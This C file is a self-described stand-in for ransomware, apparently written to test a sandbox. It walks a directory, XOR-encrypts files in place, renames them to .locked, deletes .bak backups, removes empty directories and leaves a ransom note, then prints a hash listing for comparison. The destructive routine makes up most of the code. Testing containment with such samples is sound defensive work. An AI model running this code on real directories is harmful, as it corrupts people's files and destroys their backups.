/* A stand-in for ransomware, to watch inside an aquarium: walks the directory in
 * argv[1], XOR-encrypts every file in place and renames it to NAME.locked, deletes
 * *.bak files, removes empty directories and leaves a note. Then it prints what it
 * sees of the tree (names, sizes, a hash of each file) so a native run on a copy
 * and a caged run can be compared. */
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_ENTRIES 256

static int ends_with(const char *s, const char *tail)
{
	size_t n = strlen(s), m = strlen(tail);
	return n >= m && !strcmp(s + n - m, tail);
}

static int by_name(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* The names in directory `path` (without . and ..), sorted; returns how many. */
static int names_in(const char *path, char **names)
{
	DIR *d = opendir(path);
	if (!d) {
		perror(path);
		exit(1);
	}
	int n = 0;
	struct dirent *e;
	while ((e = readdir(d)) && n < MAX_ENTRIES) {
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			names[n++] = strdup(e->d_name);
	}
	closedir(d);
	qsort(names, n, sizeof *names, by_name);
	return n;
}

static void xor_in_place(const char *path)
{
	int fd = open(path, O_RDWR);
	if (fd < 0) {
		perror(path);
		exit(1);
	}
	static unsigned char buf[1 << 16];
	ssize_t n = read(fd, buf, sizeof buf);
	for (ssize_t i = 0; i < n; i++)
		buf[i] ^= 0x5A;
	lseek(fd, 0, SEEK_SET);
	if (write(fd, buf, n) != n) {
		perror("write");
		exit(1);
	}
	close(fd);
}

static void attack(const char *dir)
{
	char *names[MAX_ENTRIES];
	int n = names_in(dir, names);
	for (int i = 0; i < n; i++) {
		char path[1024], locked[1100];
		snprintf(path, sizeof path, "%s/%s", dir, names[i]);
		struct stat st;
		if (lstat(path, &st) < 0) {
			perror(path);
			exit(1);
		}
		if (S_ISDIR(st.st_mode)) {
			attack(path);
			if (rmdir(path) == 0)
				printf("removed empty %s\n", names[i]);
		} else if (ends_with(names[i], ".bak")) {
			if (unlink(path) < 0)
				perror(path);
		} else {
			xor_in_place(path);
			snprintf(locked, sizeof locked, "%s.locked", path);
			if (rename(path, locked) < 0)
				perror(path);
		}
		free(names[i]);
	}
}

static uint32_t fnv1a(const char *path)
{
	uint32_t h = 2166136261u;
	unsigned char buf[4096];
	int fd = open(path, O_RDONLY);
	ssize_t n;
	while (fd >= 0 && (n = read(fd, buf, sizeof buf)) > 0)
		for (ssize_t i = 0; i < n; i++)
			h = (h ^ buf[i]) * 16777619u;
	if (fd >= 0)
		close(fd);
	return h;
}

static void show(const char *dir, const char *shown)
{
	char *names[MAX_ENTRIES];
	int n = names_in(dir, names);
	for (int i = 0; i < n; i++) {
		char path[1024];
		snprintf(path, sizeof path, "%s/%s", dir, names[i]);
		struct stat st;
		stat(path, &st);
		if (S_ISDIR(st.st_mode)) {
			char sub[1024];
			snprintf(sub, sizeof sub, "%s%s/", shown, names[i]);
			printf("%s\n", sub);
			show(path, sub);
		} else {
			printf("%s%s %lld %08x\n", shown, names[i], (long long)st.st_size, fnv1a(path));
		}
		free(names[i]);
	}
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: %s DIR\n", argv[0]);
		return 2;
	}
	attack(argv[1]);
	char note[1024];
	snprintf(note, sizeof note, "%s/README_RANSOM.txt", argv[1]);
	FILE *f = fopen(note, "w");
	if (!f) {
		perror(note);
		return 1;
	}
	fputs("your files are encrypted\n", f);
	fclose(f);
	show(argv[1], "");
	return 0;
}
